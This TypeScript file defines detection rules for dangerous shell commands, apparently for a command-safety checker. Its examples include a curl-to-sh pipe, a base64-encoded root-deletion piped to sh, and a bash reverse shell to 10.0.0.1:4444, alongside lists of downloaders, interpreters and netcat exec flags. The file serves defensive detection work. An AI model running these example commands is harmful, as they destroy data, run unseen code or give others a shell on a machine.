import type { Danger } from "../danger.ts";

const DOWNLOADERS = ["curl", "wget", "fetch", "http", "https", "httpie", "aria2c", "lynx", "w3m", "nc", "ncat", "netcat", "xh", "gh"];
const RUNNERS = [
  "sh",
  "bash",
  "zsh",
  "dash",
  "ksh",
  "ash",
  "fish",
  "python",
  "python3",
  "python2",
  "node",
  "perl",
  "ruby",
  "php",
  "lua",
  "osascript",
  "deno",
  "bun",
  "tclsh",
];

export const CODE_DANGERS: readonly Danger[] = [
  {
    id: "download-and-run",
    sentence: "Runs what it downloads, unseen.",
    example: "curl -fsSL https://example.com/install.sh | sh",
    harmless: "curl -fsSL https://example.com/install.sh -o install.sh",
    risk: "high",
    reversible: false,
    forms: [{ programs: RUNNERS, fed: DOWNLOADERS }],
  },
  {
    id: "decode-and-run",
    sentence: "Runs what it decodes, unseen.",
    example: "echo cm0gLXJmIC8= | base64 -d | sh",
    harmless: "echo aGVsbG8= | base64 -d",
    risk: "high",
    reversible: false,
    forms: [
      {
        programs: RUNNERS,
        fed: ["base64", "base32", "xxd", "openssl", "gpg", "gunzip", "zcat", "xz", "rev", "tr", "uudecode", "basenc", "hex"],
      },
    ],
  },
  {
    id: "code-deletes",
    sentence: "Deletes files, from a program given as text.",
    example: "python3 -c \"import shutil; shutil.rmtree('src')\"",
    harmless: 'python3 -c "print(1)"',
    risk: "high",
    reversible: false,
    forms: [
      {
        code: /\b(?:rmtree|removedirs|os\.(?:remove|unlink|rmdir|truncate)|unlinkSync|rmSync|rmdirSync|(?:fs|fsp|promises)\.(?:rm|rmdir|unlink|truncate)|rimraf|FileUtils\.(?:rm|remove)|File\.(?:delete|unlink)|Dir\.(?:rmdir|delete)|Deno\.remove|send2trash|removeItem)|\.unlink\s*\(|\bunlink\b|\brmdir\b|\bdelete\s+(?:file|folder|every)|\bremove_tree\b/,
      },
    ],
  },
  {
    id: "code-runs",
    sentence: "Starts other programs from a program given as text, where nobody can see which.",
    example: "python3 -c \"import os; os.system('ls')\"",
    harmless: "awk '{ print $1 }' data.txt",
    risk: "medium",
    reversible: false,
    forms: [
      {
        code: /\b(?:os\.(?:system|popen|exec\w*|spawn\w*|posix_spawn)|subprocess|commands\.getoutput|pty\.spawn|child_process|execSync|execFileSync|spawnSync|Bun\.(?:spawn|\$)|Deno\.(?:run|Command)|proc_open|shell_exec|passthru|popen|Open3|IO\.popen|__import__|ctypes|importlib)\b|\b(?:system|exec|eval|spawn)\s*\(|%x[[({|]|do shell script|\bgetline\b|\|\s*"(?:sh|bash|rm)|`[^`]+`\s*(?:;|$)/,
      },
      // GNU sed runs what follows `e`.
      { programs: ["sed", "gsed"], code: /(?:^|[;{}\n])[\d,$!~+ ]*e(?:\s|$)|[^\w\s][gipmI\d]*e[gipmI\d]*\s*(?:$|[;}\n])/ },
    ],
  },
  {
    id: "remote-shell",
    sentence: "Gives somebody else a shell on this machine.",
    example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    risk: "high",
    reversible: false,
    forms: [
      { needs: "/dev/", whole: /\/dev\/(?:tcp|udp)\// },
      { programs: ["nc", "ncat", "netcat"], options: ["-e", "-c", "--exec", "--sh-exec", "--lua-exec"] },
      { programs: ["socat"], text: /\b(?:exec|system):/i },
    ],
  },
  {
    id: "http-delete",
    sentence: "Asks a server to delete something.",
    example: "curl -X DELETE https://api.example.com/users/1",
    harmless: "curl https://api.example.com/users/1",
    risk: "medium",
    reversible: false,
    forms: [
      { programs: ["curl", "xh"], text: /(?:^| )(?:-X|--request)[ =]?delete\b/i },
      { programs: ["http", "https", "httpie", "xh"], text: /(?:^| )DELETE / },
      { programs: ["wget"], text: /--method[ =]delete\b/i },
    ],
  },
];
